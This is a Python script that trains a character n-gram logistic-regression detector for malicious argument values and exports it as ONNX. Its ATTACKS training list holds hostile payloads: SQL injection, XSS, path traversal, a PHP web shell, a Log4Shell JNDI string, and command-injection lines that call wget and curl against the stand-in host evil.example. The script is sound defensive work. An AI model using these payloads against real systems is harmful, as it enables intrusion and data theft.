#!/usr/bin/python3
"""Trains a character n-gram TF-IDF + logistic regression on argument values and writes it as ONNX.

Run from the repository root:  /usr/bin/python3 examples/onnx/train.py

Pinned: Debian bookworm python3-sklearn 1.2.1, python3-numpy 1.24.2, python3-onnx 1.12.0.
skl2onnx is not packaged in Debian, so the graph is written with onnx.helper, node for node what
skl2onnx would emit for this pipeline (minus ZipMap):

    text [N] --Tokenizer(one token per character)--> TfIdfVectorizer(1-3 grams, idf weights)
      --> L2 row normalisation --> MatMul + Add (the logistic regression) --> Sigmoid
      --> probabilities [N, 2], label [N]

Writes saved_models/model.onnx, saved_models/manifest.json and saved_models/expected.json
(scikit-learn's own predict_proba on a few texts, which the test compares with onnxruntime's).
"""
import json
import os

import numpy as np
import onnx
import sklearn
from onnx import TensorProto, helper, numpy_helper
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'saved_models')
RNG = np.random.default_rng(7)
PAD = '\u0000'  # Tokenizer pads short rows with it; no vocabulary n-gram contains it

WORDS = ('fish chips london paris shoes red blue cart checkout search page news sport weather report summer '
         'winter jacket invoice order account profile settings help contact about price cheap best review').split()
ATTACKS = [
    "' or 1=1 --", "' or '1'='1", '1 union select password from users', "admin'--", '1; drop table users',
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)',
    '"><svg onload=alert(1)>', '../../../etc/passwd', '..\\..\\windows\\win.ini', '; cat /etc/passwd',
    '| wget http://evil.example/x.sh', '`id`', '$(curl http://evil.example)', "1' and sleep(5)#",
    '{{7*7}}', '${jndi:ldap://evil.example/a}', '<?php system($_GET[c]); ?>', '%27%20or%201%3D1',
]


def benign():
    kind = RNG.integers(5)
    if kind == 0:
        return ' '.join(RNG.choice(WORDS, size=RNG.integers(1, 4)))
    if kind == 1:
        return str(RNG.integers(0, 100000))
    if kind == 2:
        return f'{RNG.choice(WORDS)}.{RNG.choice(WORDS)}@example.com'
    if kind == 3:
        return f'{RNG.choice(WORDS)}-{RNG.integers(1, 99)}'
    return RNG.choice(WORDS).capitalize()


def attack():
    text = str(RNG.choice(ATTACKS))
    return f'{RNG.choice(WORDS)} {text}' if RNG.random() < 0.3 else text


def to_onnx(vectorizer, model):
    vocab = vectorizer.vocabulary_
    by_n = {n: sorted((g for g in vocab if len(g) == n), key=lambda g: vocab[g]) for n in (1, 2, 3)}
    pool, counts, indexes = [], [], []
    for n in (1, 2, 3):
        counts.append(len(pool))
        for gram in by_n[n]:
            pool.extend(gram)
            indexes.append(vocab[gram])
    assert all(PAD not in g for g in vocab)
    idf = vectorizer.idf_.astype(np.float32)
    coef = model.coef_.astype(np.float32).reshape(-1, 1)
    intercept = model.intercept_.astype(np.float32)
    nodes = [
        # (?s). : every character is a token, newlines (between joined arguments) included.
        helper.make_node('Tokenizer', ['text'], ['chars'], domain='com.microsoft', mark=0, pad_value=PAD, mincharnum=1, tokenexp='(?s).'),
        helper.make_node('TfIdfVectorizer', ['chars'], ['tfidf'], mode='TFIDF', min_gram_length=1, max_gram_length=3, max_skip_count=0,
                         ngram_counts=counts, ngram_indexes=indexes, pool_strings=pool,
                         # onnxruntime reads weights in pool order, not output-column order
                         weights=[float(idf[i]) for i in indexes]),
        helper.make_node('ReduceL2', ['tfidf'], ['norm'], axes=[1], keepdims=1),
        helper.make_node('Max', ['norm', 'tiny'], ['safe_norm']),
        helper.make_node('Div', ['tfidf', 'safe_norm'], ['normalised']),
        helper.make_node('MatMul', ['normalised', 'coef'], ['z0']),
        helper.make_node('Add', ['z0', 'intercept'], ['z']),
        helper.make_node('Sigmoid', ['z'], ['p1']),
        helper.make_node('Sub', ['one', 'p1'], ['p0']),
        helper.make_node('Concat', ['p0', 'p1'], ['probabilities'], axis=1),
        helper.make_node('ArgMax', ['probabilities'], ['label'], axis=1, keepdims=0),
    ]
    graph = helper.make_graph(
        nodes, 'char_ngram_logistic_regression',
        [helper.make_tensor_value_info('text', TensorProto.STRING, [None])],
        [helper.make_tensor_value_info('label', TensorProto.INT64, [None]),
         helper.make_tensor_value_info('probabilities', TensorProto.FLOAT, [None, 2])],
        [numpy_helper.from_array(coef, 'coef'), numpy_helper.from_array(intercept, 'intercept'),
         numpy_helper.from_array(np.array([1e-12], dtype=np.float32), 'tiny'),
         numpy_helper.from_array(np.array([1.0], dtype=np.float32), 'one')],
    )
    model_proto = helper.make_model(graph, producer_name='examples/onnx/train.py',
                                    opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('com.microsoft', 1)])
    model_proto.ir_version = 8
    return model_proto


def main():
    texts = [benign() for _ in range(600)] + [attack() for _ in range(300)]
    labels = [0] * 600 + [1] * 300
    # sklearn's "char" analyzer collapses runs of whitespace; the ONNX graph does not, so train on
    # texts without such runs and keep lowercase=False (onnxruntime's StringNormalizer needs a locale).
    vectorizer = TfidfVectorizer(analyzer='char', ngram_range=(1, 3), lowercase=False, max_features=500)
    model = LogisticRegression(C=10.0, max_iter=1000).fit(vectorizer.fit_transform(texts), labels)
    os.makedirs(OUT, exist_ok=True)
    onnx.save(to_onnx(vectorizer, model), os.path.join(OUT, 'model.onnx'))
    samples = ['fish and chips', 'summer jacket', 'order-42', "' or 1=1 --", '<script>alert(1)</script>',
               '../../../etc/passwd', 'report\n1 union select password from users', '']
    expected = model.predict_proba(vectorizer.transform(samples))[:, 1]
    with open(os.path.join(OUT, 'expected.json'), 'w') as f:
        json.dump({'sklearn': sklearn.__version__, 'texts': samples, 'predict_proba[:,1]': [float(p) for p in expected]}, f, indent=1)
        f.write('\n')
    with open(os.path.join(OUT, 'manifest.json'), 'w') as f:
        json.dump({'name': 'onnx-char-ngrams', 'adapter': 'onnx', 'model': 'model.onnx', 'output': 'probabilities[:,1]',
                   'threshold': 0.5, 'anomalyWhen': 'above', 'options': {'intraOpNumThreads': 1, 'graphOptimizationLevel': 'all'}},
                  f, indent=2)
        f.write('\n')
    print('wrote', OUT, 'vocabulary', len(vectorizer.vocabulary_), 'training accuracy', model.score(vectorizer.transform(texts), labels))


if __name__ == '__main__':
    main()
